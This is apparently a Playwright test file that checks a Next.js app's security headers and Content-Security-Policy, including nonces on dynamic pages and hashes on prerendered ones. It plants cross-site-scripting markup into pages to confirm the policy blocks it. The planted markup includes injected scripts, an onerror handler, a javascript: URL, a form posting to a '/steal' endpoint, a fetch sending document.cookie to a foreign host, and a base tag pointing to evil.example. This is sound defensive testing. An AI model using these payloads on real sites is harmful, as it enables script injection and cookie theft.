// Security headers and the Content-Security-Policy against the default production build: which
// headers every response carries, that the policy lets the app's own scripts run (nonces on
// dynamic pages, hashes on the prerendered ones, which stay prerendered) with zero violations on
// every page, and that hostile inputs planted into a served page are refused. The Sentry and
// PostHog builds get the same page-by-page check in sentry.spec.ts and analytics.spec.ts.
import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test, type APIRequestContext, type Page } from '@playwright/test'
import { directivesOf, visitEveryPage, watchCsp } from './support/csp'
import { startServer, type AppServer } from './support/server'

let app: AppServer
test.beforeAll(async () => {
  test.setTimeout(120_000) // opening the embedded database on a loaded machine
  app = await startServer({ env: { DEBUG_ROUTES: '1' }, waitForReady: true })
})
test.afterAll(async () => {
  await app?.stop()
})

/** The `<script>` tags of an HTML page: attributes and inline text. */
const scriptsIn = (html: string) =>
  [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)].map((m) => ({ attributes: m[1]!, text: m[2]! }))
const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`
const policyOf = (headers: Record<string, string>) => directivesOf(headers['content-security-policy'])

async function firstScriptAsset(request: APIRequestContext): Promise<string> {
  const html = await (await request.get(`${app.url}/`)).text()
  const src = html.match(/<script[^>]*\ssrc="(\/_next\/static\/[^"]+)"/)?.[1]
  expect(src).toBeTruthy()
  return src!
}

test('every response carries the security headers; pages and API routes behind the proxy carry the policy', async ({
  request,
}) => {
  const asset = await firstScriptAsset(request)
  const responses = {
    'static page /': await request.get(`${app.url}/`),
    'dynamic page /status': await request.get(`${app.url}/status`),
    'API route /api/customers (signed out)': await request.post(`${app.url}/api/customers`, { data: {} }),
    'probe /api/health (outside the proxy)': await request.get(`${app.url}/api/health`),
    'redirect to sign-in': await request.get(`${app.url}/customers`, { maxRedirects: 0 }),
    '404 page': await request.get(`${app.url}/no-such-page`),
    'static asset': await request.get(`${app.url}${asset}`),
    icon: await request.get(`${app.url}/icon.svg`),
    'PostHog forwarder without a key': await request.get(`${app.url}/ingest/e/`),
    'Sentry tunnel without a DSN': await request.post(`${app.url}/monitoring`, { data: 'x' }),
  }
  expect(responses['redirect to sign-in'].status()).toBe(307)
  for (const [what, response] of Object.entries(responses)) {
    const headers = response.headers()
    expect(headers['x-content-type-options'], what).toBe('nosniff')
    expect(headers['referrer-policy'], what).toBe('strict-origin-when-cross-origin')
    expect(headers['permissions-policy'], what).toContain('camera=()')
    // A production build: browsers remember to use HTTPS only (they ignore it over plain HTTP).
    expect(headers['strict-transport-security'], what).toMatch(/^max-age=\d{8,}; includeSubDomains$/)
    expect(headers['x-frame-options'], what).toBe('DENY')
    expect(headers['x-request-id'], what).toBeTruthy()
  }
  for (const what of [
    'static page /',
    'dynamic page /status',
    'API route /api/customers (signed out)',
    'redirect to sign-in',
    '404 page',
  ] as const) {
    const policy = policyOf(responses[what].headers())
    expect(policy.get('default-src'), what).toEqual(["'self'"])
    expect(policy.get('connect-src'), what).toEqual(["'self'"])
    expect(policy.get('object-src'), what).toEqual(["'none'"])
    expect(policy.get('base-uri'), what).toEqual(["'none'"])
    expect(policy.get('frame-ancestors'), what).toEqual(["'none'"])
    expect(policy.get('form-action'), what).toEqual(["'self'"])
    const scriptSrc = policy.get('script-src') ?? []
    expect(
      scriptSrc.some((source) => source.startsWith("'nonce-")),
      what,
    ).toBe(true)
    expect(scriptSrc, what).not.toContain("'unsafe-inline'")
    expect(scriptSrc, what).not.toContain("'unsafe-eval'")
  }
})

test('dynamic pages: a fresh nonce per request, on every script Next renders', async ({ request }) => {
  const nonces: string[] = []
  for (let i = 0; i < 2; i++) {
    const response = await request.get(`${app.url}/status`)
    const nonce = policyOf(response.headers())
      .get('script-src')
      ?.find((source) => source.startsWith("'nonce-"))
      ?.slice(7, -1)
    expect(nonce).toMatch(/^[A-Za-z0-9+/]{22,}={0,2}$/)
    const scripts = scriptsIn(await response.text())
    expect(scripts.length).toBeGreaterThan(3)
    for (const script of scripts) expect(script.attributes).toContain(`nonce="${nonce}"`)
    nonces.push(nonce!)
  }
  expect(nonces[0]).not.toBe(nonces[1])
})

test('the static page stays prerendered, and the policy names the hash of each of its inline scripts', async ({
  request,
}) => {
  const distDir = process.env.NEXT_DIST_DIR?.trim() || '.next'
  const prerendered = JSON.parse(readFileSync(`${distDir}/prerender-manifest.json`, 'utf8')) as {
    routes: Record<string, unknown>
  }
  expect(Object.keys(prerendered.routes)).toEqual(expect.arrayContaining(['/', '/_not-found']))

  for (const path of ['/', '/no-such-page']) {
    const response = await request.get(`${app.url}${path}`)
    const scriptSrc = policyOf(response.headers()).get('script-src') ?? []
    const inline = scriptsIn(await response.text()).filter((script) => !/\ssrc=/.test(script.attributes))
    expect(inline.length, path).toBeGreaterThan(1)
    for (const script of inline) {
      expect(script.attributes, `${path}: a prerendered page has no nonce`).not.toContain('nonce=')
      expect(scriptSrc, `${path}: ${script.text.slice(0, 60)}`).toContain(sha256(script.text))
    }
  }
  // Served as prerendered HTML, not rendered for this request.
  expect((await request.get(`${app.url}/`)).headers()['x-nextjs-prerender']).toMatch(/^1(, 1)*$/)
})

test('every page in the default build loads with zero CSP violations', async ({ page }) => {
  test.setTimeout(120_000)
  const csp = await watchCsp(page)
  const pageErrors: string[] = []
  page.on('pageerror', (error) => pageErrors.push(error.message))
  const visited = await visitEveryPage(page, app)
  expect(visited.length).toBeGreaterThanOrEqual(12)
  expect(csp.violations).toEqual([])
  expect(pageErrors.filter((message) => !message.includes('Planted'))).toEqual([])
})

/** A server on another origin that would run or receive whatever the planted markup asks of it. */
async function startForeignOrigin(): Promise<{ url: string; hits: string[]; close: () => Promise<void> }> {
  const hits: string[] = []
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? '')
    res.setHeader('Access-Control-Allow-Origin', '*')
    res.setHeader('Content-Type', 'text/javascript')
    res.end("window.__planted.push('external script')")
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const url = `http://localhost:${(server.address() as AddressInfo).port}`
  // The browser may hold an idle connection open (its preload scanner connects ahead of the policy).
  const close = () =>
    new Promise<void>((resolve) => {
      server.close(() => resolve())
      server.closeAllConnections()
    })
  return { url, hits, close }
}

/**
 * Serves `path` as the server sent it (status, headers, policy) with the markup `plantedFor`
 * returns planted before `</body>`, as a stored cross-site-scripting hole would put it there.
 * `plantedFor` gets the nonce of that very response (when it has one).
 */
async function plant(page: Page, path: string, plantedFor: (nonce: string | undefined) => string) {
  await page.route(`${app.url}${path}`, async (route) => {
    if (route.request().resourceType() !== 'document') return route.continue()
    const response = await route.fetch()
    const nonce = policyOf(response.headers())
      .get('script-src')
      ?.find((source) => source.startsWith("'nonce-"))
      ?.slice(7, -1)
    const body = (await response.text()).replace('</body>', `${plantedFor(nonce)}</body>`)
    await route.fulfill({ response, body })
  })
}

const planted = (page: Page) => page.evaluate(() => (window as unknown as { __planted: string[] }).__planted)

test('hostile markup planted into a static and a dynamic page is refused', async ({ page, request }) => {
  test.setTimeout(120_000)
  const foreign = await startForeignOrigin()
  try {
    const csp = await watchCsp(page)
    await page.addInitScript(() => ((window as unknown as { __planted: string[] }).__planted = []))
    // A nonce an attacker could have read from an earlier response.
    const staleNonce =
      policyOf((await request.get(`${app.url}/sign-in`)).headers())
        .get('script-src')
        ?.find((s) => s.startsWith("'nonce-"))
        ?.slice(7, -1) ?? 'none-sent'
    const hostile = [
      `<script>window.__planted.push('inline script')</script>`,
      `<script nonce="${staleNonce}">window.__planted.push('stale nonce')</script>`,
      `<img src="/no-such-image.png" onerror="window.__planted.push('inline handler')">`,
      `<script src="${foreign.url}/evil.js"></script>`,
      `<a id="planted-link" href="javascript:window.__planted.push('javascript url')">x</a>`,
      `<form id="planted-form" action="${foreign.url}/steal" method="post"><input name="secret" value="s"></form>`,
      `<object data="${foreign.url}/plugin.swf"></object>`,
    ].join('')
    // Even a script the page trusts (it carries this response's nonce; the static page's policy
    // has one too, which its prerendered HTML does not use) cannot turn strings into code.
    const evalFromTrustedScript = (nonce: string | undefined) =>
      `<script nonce="${nonce}">for (const [what, run] of [['eval', () => eval('1')], ['Function', () => new Function('return 1')()]]) { try { run(); window.__planted.push(what + ' ran') } catch (error) { window.__evalErrors = [...(window.__evalErrors || []), error.name] } }</script>`

    for (const path of ['/', '/sign-in']) {
      await plant(page, path, (nonce) => hostile + evalFromTrustedScript(nonce))
      const response = await page.goto(`${app.url}${path}`)
      expect(response?.status()).toBe(200)
      await page.waitForLoadState('networkidle')
      await page.locator('#planted-link').click()
      await page.evaluate(() => (document.getElementById('planted-form') as HTMLFormElement).submit())
      await page.waitForTimeout(500)
      expect(page.url(), 'the form did not leave the app').toBe(`${app.url}${path}`)
      // A request to another origin, from script already running in the page.
      const exfiltrated = await page.evaluate(async (foreignUrl) => {
        try {
          await fetch(`${foreignUrl}/collect`, { method: 'POST', body: document.cookie })
          return 'fetch ran'
        } catch (error) {
          return `fetch: ${(error as Error).name}`
        }
      }, foreign.url)
      expect(exfiltrated, path).toBe('fetch: TypeError')
      expect(await planted(page), path).toEqual([])
      // The app's own scripts did run: Next booted in the page.
      expect(
        await page.evaluate(() => typeof (window as unknown as { next?: { version?: string } }).next?.version),
        path,
      ).toBe('string')
    }
    // The nonce-carrying script ran (here on /sign-in, the last page) and met an EvalError each time.
    expect(await page.evaluate(() => (window as unknown as { __evalErrors?: string[] }).__evalErrors)).toEqual([
      'EvalError',
      'EvalError',
    ])
    expect(foreign.hits, 'nothing reached the other origin').toEqual([])
    // Each refusal was the policy's, on both pages: per page, script-src-elem refused the inline
    // script, the stale nonce, the foreign script and the javascript: URL; script-src-attr the
    // handler; script-src eval and Function; and one each of the object, the form and the fetch.
    const perPage = {
      'script-src-elem': 4,
      'script-src-attr': 1,
      'script-src': 2,
      'object-src': 1,
      'form-action': 1,
      'connect-src': 1,
    }
    for (const [directive, count] of Object.entries(perPage)) {
      expect(csp.of(directive), `${directive} violations:\n${csp.violations.join('\n')}`).toHaveLength(2 * count)
    }
    expect(csp.of('script-src-elem').filter((line) => line.includes(`blocked=${foreign.url}/evil.js`))).toHaveLength(2)
  } finally {
    await foreign.close()
  }
})

test('a <base> tag cannot redirect the page’s relative URLs, and no other site can frame a page', async ({ page }) => {
  const csp = await watchCsp(page)
  await plant(page, '/sign-in', () => '<base href="https://evil.example/">')
  await page.goto(`${app.url}/sign-in`)
  expect(await page.evaluate(() => document.baseURI)).toBe(`${app.url}/sign-in`)
  expect(csp.of('base-uri')).toHaveLength(1)

  // A page on another origin (a data: URL is opaque) that frames a static and a dynamic page.
  await page.goto(`data:text/html,<iframe src="${app.url}/"></iframe><iframe src="${app.url}/sign-in"></iframe>`)
  await page.waitForTimeout(1000)
  const framed = page.frames().filter((frame) => frame !== page.mainFrame())
  expect(framed.map((frame) => frame.url())).toEqual(['chrome-error://chromewebdata/', 'chrome-error://chromewebdata/'])
})
